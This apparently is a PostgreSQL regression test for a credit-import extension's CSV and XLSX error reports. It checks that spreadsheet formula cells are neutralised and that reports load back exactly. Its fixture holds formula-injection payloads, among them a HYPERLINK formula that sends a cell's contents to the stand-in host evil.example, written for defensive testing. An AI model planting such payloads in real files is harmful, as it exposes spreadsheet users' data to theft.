--
-- report: the results file -- no cell of it may become a formula, the
-- workbook report loads back exactly, a recipe that writes a usable file,
-- and a rejected pipeline step whose message points at a batch that exists
--
\getenv abs_builddir PG_ABS_BUILDDIR
INSERT INTO credimport.learner (email, first_name, last_name) VALUES ('rep@example.org', 'Rep', 'Ort')
    ON CONFLICT DO NOTHING;
INSERT INTO credimport.credit_type (code, name) VALUES ('REP', 'Report type') ON CONFLICT DO NOTHING;

-- a sender's file with cells a spreadsheet would run as formulas: every
-- record is invalid (an unknown learner, bad credits), so all of it is in
-- the report; an ignored column "=cmd" is in its header
CREATE TEMP TABLE hostile (content text);
INSERT INTO hostile VALUES (
    E'email,provider,course_title,course_id,completion_date,number_credits,credit_type,=cmd\n'
    'nobody@example.org,=1+2,"=HYPERLINK(""http://evil.example/?x=""&A1,""Click me"")",0042,2024-01-02,1,REP,x\n'
    'nobody@example.org,+1 555 0100,@SUM(A1:A9),-7,2024-01-03,1,REP,\n'
    'rep@example.org,"\ttabbed",Plain title,1e5,2024-01-04,-5,REP,"a ""quoted"", value"\n'
    'rep@example.org,Safe provider,"Multi\nline = title",007,2024-01-05,0,REP,=\n');
SELECT line_no, status, errors FROM credimport_load_data((SELECT content FROM hostile), 'email', validate_only => true);
SELECT credimport_last_batch_id() AS hostile_batch \gset

-- the records are kept the same way by the INSERT route (taken under
-- row-level security, BEFORE triggers or write_method = 'insert'), array
-- column and all
SET credimport.write_method = 'insert';
SELECT count(*) FROM credimport_load_data((SELECT content FROM hostile), 'email', validate_only => true);
RESET credimport.write_method;
SELECT array_agg(a.fields ORDER BY a.line_no) = array_agg(o.fields ORDER BY o.line_no) AS same_records
  FROM credimport.batch_record a
  JOIN credimport.batch_record o ON o.batch_id = :hostile_batch AND o.line_no = a.line_no
 WHERE a.batch_id = credimport_last_batch_id();

-- CSV: every field is quoted (OWASP); a cell that starts with = + - @ TAB
-- or CR also gets a leading single quote; no other cell changes
SELECT credimport_error_report(:hostile_batch);
-- a field holding ; or TAB is quoted too: a spreadsheet that splits on
-- them (Excel in semicolon locales, LibreOffice) would make "=1+2" a cell
SELECT credimport.csv_line(ARRAY['x;=1+2', E'y\t@SUM(1+1)', '', NULL, 'plain', 'say "hi"']) AS csv_line;
-- no cell of it, read back as CSV, starts with a formula character
SELECT line_no, status FROM credimport_load_data(credimport_error_report(:hostile_batch), 'email', validate_only => true);
SELECT credimport_last_batch_id() AS csv_again \gset
SELECT r.line_no, f.n, f.v AS cell
  FROM credimport.batch_record r, unnest(r.fields) WITH ORDINALITY f(v, n)
 WHERE r.batch_id = :csv_again AND f.v ~ E'^[-=+@\t\r]';
-- what the quote changes: those cells come back with it (the workbook
-- report is the one that round-trips)
SELECT r.line_no, f.n, f.v AS cell
  FROM credimport.batch_record r, unnest(r.fields) WITH ORDINALITY f(v, n)
 WHERE r.batch_id = :csv_again AND f.v LIKE '''%' ORDER BY 1, 2;

-- the CSV report as bytes is the same text in UTF-8
SELECT credimport_error_report(:hostile_batch, 'csv') = convert_to(credimport_error_report(:hostile_batch), 'UTF8') AS csv_bytes_same;

-- the workbook report: a zip (an .xlsx), every cell a text cell
CREATE TEMP TABLE wb AS SELECT credimport_error_report(:hostile_batch, format => 'xlsx') AS x;
SELECT substr(x, 1, 4) = '\x504b0304'::bytea AS is_zip, length(x) > 1000 AS has_content FROM wb;
-- loaded back (as a fixed file would be), it gives the original values,
-- cell for cell: formulas stay text, 0042 stays 0042, 1e5 stays 1e5
SELECT line_no, status, errors FROM credimport_load_data((SELECT x FROM wb), 'email', validate_only => true);
SELECT credimport_last_batch_id() AS xlsx_again \gset
SELECT header FROM credimport.batch WHERE id = :xlsx_again;
SELECT o.line_no, o.fields = a.fields[1:array_length(o.fields, 1)] AS same_values, a.fields
  FROM credimport.batch_record o
  JOIN credimport.batch_record a ON a.batch_id = :xlsx_again AND a.line_no = o.line_no
 WHERE o.batch_id = :hostile_batch
 ORDER BY o.line_no;
SELECT (SELECT count(*) FROM credimport.batch_record WHERE batch_id = :hostile_batch) AS original_records,
       (SELECT count(*) FROM credimport.batch_record WHERE batch_id = :xlsx_again) AS reloaded_records;
-- once the learner exists, the report's records with the odd values are valid
BEGIN;
INSERT INTO credimport.learner (email) VALUES ('nobody@example.org');
SELECT line_no, status, errors FROM credimport_load_data(
    credimport_error_report(:hostile_batch, 'xlsx'), 'email', validate_only => true);
ROLLBACK;

-- unknown format; a batch that does not exist
SELECT credimport_error_report(:hostile_batch, 'ods');
SELECT credimport_error_report(-1, 'xlsx');
SELECT credimport_error_report(-1);
-- text a spreadsheet reads as an escape (_xHHHH_, ECMA-376 ST_Xstring) is
-- written escaped (Excel showed "_x0041_" as "A"), and the control
-- characters libxlsxwriter writes as _x0001_ are decoded by the reader:
-- the report loads back exactly
SELECT count(*) FROM credimport_load_data(
    E'email,provider,course_title,course_id,completion_date,number_credits,credit_type\n' ||
    E'nobody@example.org,_x0041_,"bell\x01, CR\r, _x005F_x0041_ and _X0041_",ESC-_x00e9_,2024-01-02,1,REP\n',
    'email', validate_only => true);
SELECT credimport_last_batch_id() AS esc_batch \gset
SELECT count(*) FROM credimport_load_data(credimport_error_report(:esc_batch, 'xlsx'), 'email', validate_only => true);
SELECT o.fields = a.fields[1:array_length(o.fields, 1)] AS same_values, a.fields[2:4] AS cells
  FROM credimport.batch_record o
  JOIN credimport.batch_record a ON a.batch_id = credimport_last_batch_id() AND a.line_no = o.line_no
 WHERE o.batch_id = :esc_batch;
-- a cell longer than a workbook cell may hold: refused, the CSV report works
SELECT count(*) FROM credimport_load_data(
    E'email,provider,course_title,course_id,completion_date,number_credits,credit_type\n'
    'nobody@example.org,P,' || repeat('x', 40000) || E',LONG-1,2024-01-02,1,REP\n', 'email', validate_only => true);
SELECT credimport_last_batch_id() AS long_batch \gset
SELECT credimport_error_report(:long_batch, 'xlsx');
SELECT length(credimport_error_report(:long_batch)) > 40000 AS csv_report_works;
-- no temporary file is left behind
SELECT count(*) AS report_files_left FROM pg_ls_tmpdir() WHERE name LIKE '%credimport-report%';

-- the README's recipe writes the report byte for byte (psql's \copy would
-- write COPY's text format: one line with \n escapes)
\setenv PGDATABASE :DBNAME
\setenv REPORT_BATCH :hostile_batch
\setenv REPORT_DIR :abs_builddir/results
\! psql -XAt -c "SELECT encode(credimport_error_report($REPORT_BATCH, 'csv'), 'base64')" | base64 -d > "$REPORT_DIR/report_recipe.csv"
\! psql -XAt -c "SELECT encode(credimport_error_report($REPORT_BATCH, 'xlsx'), 'base64')" | base64 -d > "$REPORT_DIR/report_recipe.xlsx"
\set csv_file :abs_builddir '/results/report_recipe.csv'
\set xlsx_file :abs_builddir '/results/report_recipe.xlsx'
SELECT pg_read_binary_file(:'csv_file') = credimport_error_report(:hostile_batch, 'csv') AS csv_file_exact;
SELECT line_no, status FROM credimport_load_data(pg_read_binary_file(:'xlsx_file'), 'email', validate_only => true);
SELECT credimport_last_batch_id() AS from_file \gset
SELECT count(*) AS same_records
  FROM credimport.batch_record o
  JOIN credimport.batch_record a ON a.batch_id = :from_file AND a.line_no = o.line_no
 WHERE o.batch_id = :hostile_batch AND o.fields = a.fields[1:array_length(o.fields, 1)];
-- the old recipe, for the record: not the report
\set old_file :abs_builddir '/results/report_copy.csv'
\set copy_cmd '\\copy (SELECT credimport_error_report(' :hostile_batch ')) TO ' :'old_file'
:copy_cmd
SELECT convert_from(pg_read_binary_file(:'old_file'), 'UTF8') = credimport_error_report(:hostile_batch) AS copy_file_exact;

-- a rejected pipeline step: outside a transaction block the rejected batch
-- and its problems are kept, so the batch the message names exists
CREATE TABLE rep_stage (email text, provider text, course_title text, course_id text,
                        completion_date text, number_credits text, credit_type text);
INSERT INTO rep_stage VALUES ('nobody@example.org', 'P', 'T', 'STEP-1', '2024-01-02', '1', 'REP');
\set VERBOSITY terse
CALL credimport_import('rep_stage', 'email');
\set VERBOSITY default
SELECT credimport_last_batch_id() AS step_batch \gset
SELECT status, records, invalid FROM credimport.batch WHERE id = :step_batch;
SELECT line_no, field, code FROM credimport.batch_error WHERE batch_id = :step_batch;
SELECT credimport_error_report(:step_batch);
-- from a DO block (which may commit too)
DO $$ DECLARE b bigint; i int; v int;
BEGIN CALL credimport_import('rep_stage', 'email', false, b, i, v); END $$;
SELECT status FROM credimport.batch WHERE id = credimport_last_batch_id();
-- inside a transaction block the error rolls the batch back: the message
-- names no batch
SELECT max(id) AS before_block FROM credimport.batch \gset
BEGIN;
CALL credimport_import('rep_stage', 'email');
ROLLBACK;
SELECT count(*) AS batches_after_block FROM credimport.batch WHERE id > :before_block;
-- and from a function (an atomic context, which may not commit)
CREATE FUNCTION rep_step() RETURNS void LANGUAGE plpgsql AS $$
DECLARE b bigint; i int; v int;
BEGIN CALL credimport_import('rep_stage', 'email', false, b, i, v); END $$;
SELECT rep_step();
SELECT count(*) AS batches_after_function FROM credimport.batch WHERE id > :before_block;
DROP FUNCTION rep_step();
DROP TABLE rep_stage;
